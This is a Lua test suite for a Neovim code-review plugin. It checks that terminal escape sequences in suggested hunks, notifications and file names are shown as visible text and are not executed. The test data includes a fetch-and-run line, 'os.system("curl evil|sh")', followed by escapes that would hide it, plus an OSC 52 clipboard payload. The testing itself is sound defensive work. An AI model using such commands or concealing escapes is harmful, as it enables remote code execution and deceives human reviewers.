local visible = require('hunkgate.visible')

local ESC = '\27'

test('visible: control characters are shown, not obeyed', function()
  eq('os.system("x")^[[1A^[[2K', visible.line('os.system("x")' .. ESC .. '[1A' .. ESC .. '[2K'))
  eq('^[]52;c;ZXZpbA==^G', visible.line(ESC .. ']52;c;ZXZpbA==\7'))
  eq('a^Jb\tc^M^?^@', visible.line('a\nb\tc\r\127\0'))
  eq('a\nb', visible.text('a\nb', true))
  eq('<U+009B>2J <U+202E>', visible.line('\194\1552J \226\128\174'))
  -- Positive control: ordinary text, UTF-8 included, is left alone.
  eq('plain – ünïcode ✓', visible.line('plain – ünïcode ✓'))
end)

test('visible: notifications carry no raw escape', function()
  local got = {}
  local orig = vim.notify
  vim.notify = function(msg)
    got[#got + 1] = msg
  end
  require('hunkgate.notify').send('hunkgate: ' .. ESC .. ']0;owned\7 line one\nline two')
  vim.notify = orig
  eq(1, #got)
  eq('hunkgate: ^[]0;owned^G line one\nline two', got[1])
end)

local function hostile_suggestion()
  local line = 'os.system("curl evil|sh")' .. ESC .. '[1A' .. ESC .. '[2K'
  return {
    id = 'sid',
    description = 'desc ' .. ESC .. ']0;title\7',
    hunks = {
      {
        id = 'sid:a.py:0',
        file = 'a.py',
        kind = 'modify',
        state = 'conflict',
        conflict = 'bad ' .. ESC .. '[2J',
        index = 0,
        diff = '@@ -1,1 +1,2 @@\n x\n+' .. line .. '\n',
        header = { old_start = 1, old_lines = 1, new_start = 1, new_lines = 2 },
      },
    },
  }
end

local function no_escape(v, where)
  local s = vim.inspect(v)
  truthy(not s:find(ESC, 1, true) and not s:find('\\27', 1, true), where .. ' has a raw escape: ' .. s)
end

test('visible: the float view shows no raw escape in its title, footer or virtual text', function()
  local cfg = { ui = { width = 0.5, height = 0.5, position = 'center', border = 'single' } }
  local view = require('hunkgate.ui.float').new(cfg)
  local s = hostile_suggestion()
  view:show({ suggestion = s, index = 1, hunk = s.hunks[1], path = '/tmp/a.py', root = '/tmp', done = false, maps = {} })
  local conf = vim.api.nvim_win_get_config(view.win)
  no_escape(conf.title, 'title')
  no_escape(conf.footer, 'footer')
  truthy(vim.inspect(conf.title):find('^[]0;title^G', 1, true), vim.inspect(conf.title))
  local marks = vim.api.nvim_buf_get_extmarks(view.buf, -1, 0, -1, { details = true })
  truthy(#marks > 0, 'positive control: the view has extmarks')
  for _, m in ipairs(marks) do
    no_escape(m[4].virt_lines, 'virt_lines')
    no_escape(m[4].virt_text, 'virt_text')
  end
  -- The buffer keeps the hunk's text as it is (Neovim shows ESC as ^[ there).
  local lines = vim.api.nvim_buf_get_lines(view.buf, 0, -1, false)
  truthy(lines[2]:find(ESC, 1, true), 'the buffer holds exactly the hunk text')
  view:close()
end)

test('visible: the inline view shows no raw escape in virtual lines or the quickfix list', function()
  local dir = vim.fn.tempname()
  vim.fn.mkdir(dir, 'p')
  local path = dir .. '/a.py'
  vim.fn.writefile({ 'x' }, path)
  local view = require('hunkgate.ui.inline').new({ ui = {} })
  local s = hostile_suggestion()
  s.hunks[1].state = 'pending'
  view:show({ suggestion = s, index = 1, hunk = s.hunks[1], path = path, root = dir, done = false, maps = {} })
  local buf = vim.fn.bufnr(path)
  local marks = vim.api.nvim_buf_get_extmarks(buf, -1, 0, -1, { details = true })
  local seen = false
  for _, m in ipairs(marks) do
    if m[4].virt_lines then
      seen = seen or vim.inspect(m[4].virt_lines):find('curl evil|sh")^[[1A^[[2K', 1, true) ~= nil
    end
    no_escape(m[4].virt_lines, 'virt_lines')
    no_escape(m[4].virt_text, 'virt_text')
  end
  truthy(seen, 'positive control: the added line is shown, made visible')
  local qf = vim.fn.getqflist({ title = 0, items = 0 })
  no_escape(qf.title, 'quickfix title')
  for _, it in ipairs(qf.items) do
    no_escape(it.text, 'quickfix text')
  end
  view:close()
  vim.cmd('silent! cclose')
end)

test('skipped files are announced with the suggestion, made visible', function()
  local notify = require('hunkgate.notify')
  local s = {
    description = 'grow',
    hunk_count = 1,
    files = { 'keep.txt' },
    skipped = {
      { path = 'big.bin', reason = 'larger than 67108864 bytes' },
      { path = 'pipe' .. ESC .. '[2J', reason = 'FIFO skipped' },
    },
  }
  local got = {}
  local orig = vim.notify
  vim.notify = function(msg)
    got[#got + 1] = msg
  end
  notify.send(notify.ready_text(s))
  vim.notify = orig
  eq(
    'Suggestion ready: grow (1 hunk in 1 file)\n2 files left out (not reviewed, never changed by this suggestion):\n'
      .. '  big.bin: larger than 67108864 bytes\n  pipe^[[2J: FIFO skipped',
    got[1]
  )
  -- Positive control: no skipped list, no extra line.
  eq('Suggestion ready: grow (1 hunk in 1 file)', notify.ready_text({ description = 'grow', hunk_count = 1, files = { 'a' } }))
end)
